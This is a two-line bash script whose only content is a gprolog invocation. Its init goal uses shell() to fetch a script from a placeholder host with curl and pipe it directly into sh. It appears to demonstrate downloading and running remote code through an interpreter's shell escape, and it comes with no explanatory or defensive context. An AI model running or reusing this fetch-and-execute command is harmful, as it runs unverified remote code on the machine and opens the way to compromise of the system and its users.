#!/bin/bash
gprolog --init-goal "shell('curl -s https://get.example.invalid/a | sh'), halt"
